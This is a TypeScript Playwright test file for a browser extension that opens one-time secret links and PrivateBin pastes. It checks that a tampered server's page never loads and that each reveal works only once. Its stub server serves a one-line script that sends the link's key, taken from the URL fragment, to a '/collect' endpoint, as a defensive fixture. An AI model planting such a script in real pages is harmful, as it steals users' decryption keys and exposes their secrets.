/**
 * "Open in Keywarden": a recipient with the extension opens a one-time link in the extension's
 * own page. The link's server hands over ciphertext only; its page, and any code a tampered
 * server would serve with it, never loads. The reveal stays one-time.
 */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser } from '@playwright/test';
import { fake } from '../../detectors/fake';
import { createLink } from '../../lib/share-client';
import { startPrivateBin, type RunningPrivateBin } from '../server/privatebin-server';
import type { ExtensionBrowser, ExtPage } from './extension-browser';
import { seriousViolations } from './axe';
import { expect, test } from './fixtures';

let pb: RunningPrivateBin;
test.beforeAll(async () => {
  pb = await startPrivateBin();
});
test.afterAll(async () => {
  await pb?.stop();
});

interface TamperedServer {
  url: string;
  /** Every request it received, as `METHOD /path`. */
  requests: string[];
  close(): Promise<void>;
}

/**
 * A Keywarden server whose pages were tampered with: its API is the real one behind it, and every
 * other address answers a viewer that would send the link's key away.
 */
async function startTamperedServer(upstream: string): Promise<TamperedServer> {
  const requests: string[] = [];
  const server: Server = createServer((req, res) => {
    requests.push(`${req.method} ${req.url}`);
    if (!req.url?.startsWith('/api/')) {
      res.writeHead(200, { 'Content-Type': 'text/html' });
      res.end('<script>fetch("/collect?" + encodeURIComponent(location.hash))</script>');
      return;
    }
    const forwarded: Record<string, string> = {};
    for (const name of ['origin', 'sec-fetch-site', 'content-type', 'authorization']) {
      const value = req.headers[name];
      if (typeof value === 'string') forwarded[name] = value;
    }
    const chunks: Buffer[] = [];
    req.on('data', (chunk: Buffer) => chunks.push(chunk));
    req.on('end', () => {
      const body = chunks.length > 0 ? Buffer.concat(chunks) : undefined;
      void fetch(upstream + req.url, { method: req.method, headers: forwarded, body }).then(
        async (answer) => {
          const headers: Record<string, string> = {};
          answer.headers.forEach((value, name) => (headers[name] = value));
          res.writeHead(answer.status, headers);
          res.end(Buffer.from(await answer.arrayBuffer()));
        },
        () => res.writeHead(502).end(),
      );
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}`,
    requests,
    close: () => new Promise((resolve) => server.close(() => resolve())),
  };
}

const headingText = () => document.querySelector('h1')?.textContent ?? '';
const secretText = () => document.querySelector('[data-testid="secret"]')?.textContent ?? '';

/** Pastes `link` into the page's form, as a recipient does, and waits for the Reveal step. */
async function openLink(extension: ExtensionBrowser, link: string): Promise<ExtPage> {
  const page = await extension.openExtensionPage('/open.html');
  await page.textOf('#link');
  await page.focus('#link');
  await page.typeText(link);
  await page.press('Enter');
  await expect.poll(() => page.evaluate(headingText, undefined)).toContain('It can be viewed once');
  return page;
}

/** Presses Reveal with the keyboard; returns the secret or 'gone'. */
async function reveal(page: ExtPage): Promise<string> {
  // The step's heading takes the focus once it renders; wait for that, so the focus the test gives
  // the button is not taken back by it.
  await expect
    .poll(() => page.evaluate(() => document.activeElement?.tagName, undefined))
    .toBe('H1');
  await page.focus('main button');
  await page.press('Enter');
  await expect
    .poll(() => page.evaluate(headingText, undefined))
    .toMatch(/Your secret|no longer available/);
  return (await page.evaluate(headingText, undefined)).includes('Your secret')
    ? page.evaluate(secretText, undefined)
    : 'gone';
}

test('a link from a tampered Keywarden server opens once, and its page never loads @firefox', async ({
  extension,
  linkServer,
}) => {
  const tampered = await startTamperedServer(linkServer.url);
  try {
    const secret = 'open ' + fake(31).chars(28);
    const { url } = await createLink(secret, { server: tampered.url });
    const created = tampered.requests.length;

    const first = await openLink(extension, url);
    // Nothing is fetched before the click: a link preview in this page would burn nothing.
    expect(tampered.requests.length).toBe(created);
    expect(await reveal(first)).toBe(secret);
    await first.close();

    const second = await openLink(extension, url);
    expect(await reveal(second)).toBe('gone');
    await second.close();

    const id = url.slice(url.indexOf('#') + 1, url.indexOf('.', url.indexOf('#')));
    expect(tampered.requests.slice(created)).toEqual([
      `POST /api/secrets/${id}/reveal`,
      `POST /api/secrets/${id}/reveal`,
    ]);
  } finally {
    await tampered.close();
  }
});

/** Writes `text` as a burn-after-reading paste in PrivateBin's own page; returns its link. */
async function pasteInPrivateBin(reader: Browser, text: string): Promise<string> {
  const context = await reader.newContext();
  try {
    const page = await context.newPage();
    await page.goto(pb.url);
    // Its page compresses what it seals (zlib in PrivateBin's words, raw deflate in fact).
    expect(await page.locator('body').getAttribute('data-compression')).toBe('zlib');
    await page.locator('#message').fill(text);
    await page.locator('#burnafterreading').check();
    await page.locator('#sendbutton').click();
    const link = page.locator('#pasteurl');
    await link.waitFor();
    return (await link.getAttribute('href')) ?? '';
  } finally {
    await context.close();
  }
}

test('a paste made in PrivateBin’s own page opens once @firefox', async ({ extension, reader }) => {
  const secret = 'pasted ' + fake(32).chars(28);
  const link = await pasteInPrivateBin(reader, secret);
  expect(link).toContain(pb.url);

  const first = await openLink(extension, link);
  expect(await first.evaluate(() => document.body.textContent ?? '', undefined)).toContain(
    'PrivateBin',
  );
  expect(await reveal(first)).toBe(secret);
  await first.close();

  const second = await openLink(extension, link);
  expect(await reveal(second)).toBe('gone');
  await second.close();
});

test('anything but a one-time link is refused before anything is fetched', async ({
  extension,
}) => {
  const page = await extension.openExtensionPage('/open.html');
  await page.textOf('#link');
  await page.focus('#link');
  await page.typeText('https://example.com/some/page?x=1');
  await page.press('Enter');
  expect(await page.textOf('#link-error')).toContain('not a one-time link');
  await page.close();
});

test('the page asks for the link when no link was handed over', async ({ extension }) => {
  // A stale or forged token in the address claims nothing.
  const page = await extension.openExtensionPage(`/open.html#${'A'.repeat(22)}`);
  expect(await page.textOf('h1')).toBe('Open a link you received');
  expect(await page.evaluate(() => location.hash, undefined)).toBe('');
  await page.close();
});

test('links carry an Open in Keywarden item', async ({ extension }) => {
  test.skip(!extension.context, 'reads the menu through the service worker: Chromium');
  const context = extension.context as NonNullable<typeof extension.context>;
  const worker = context.serviceWorkers()[0] ?? (await context.waitForEvent('serviceworker'));
  // update() fails for an item that does not exist.
  const exists = await worker.evaluate(() =>
    (
      globalThis as unknown as {
        chrome: { contextMenus: { update(id: string, props: object): Promise<void> } };
      }
    ).chrome.contextMenus
      .update('open-in-keywarden', {})
      .then(
        () => true,
        () => false,
      ),
  );
  expect(exists).toBe(true);
});

test('the popup leads to the page for a link received elsewhere', async ({ extension }) => {
  test.skip(!extension.context, 'follows a new tab with Playwright: Chromium');
  const context = extension.context as NonNullable<typeof extension.context>;
  const popup = await context.newPage();
  await popup.goto(`${extension.extensionOrigin}/popup.html`);
  const [opened] = await Promise.all([
    context.waitForEvent('page'),
    popup.getByRole('link', { name: 'Open a link you received' }).click(),
  ]);
  await expect(opened.getByRole('heading', { name: 'Open a link you received' })).toBeVisible();
  await expect(opened.getByLabel('Link')).toBeFocused();
  await opened.close();
  await popup.close();
});

for (const scheme of ['light', 'dark'] as const) {
  test(`the page has no serious accessibility violations (${scheme})`, async ({ extension }) => {
    test.skip(!extension.context, 'axe runs through Playwright: Chromium');
    const page = await (extension.context as NonNullable<typeof extension.context>).newPage();
    await page.emulateMedia({ colorScheme: scheme });
    await page.goto(`${extension.extensionOrigin}/open.html`);
    const link = page.getByLabel('Link');
    await link.fill('not a link');
    await link.press('Enter');
    await page.getByRole('alert').waitFor();
    expect(await seriousViolations(page), 'the form, with an error').toEqual([]);
    await link.fill(`https://links.example/s#${'i'.repeat(22)}.${'k'.repeat(43)}`);
    await link.press('Enter');
    await page.getByRole('button', { name: 'Reveal' }).waitFor();
    expect(await seriousViolations(page), 'the Reveal step').toEqual([]);
    await page.close();
  });
}
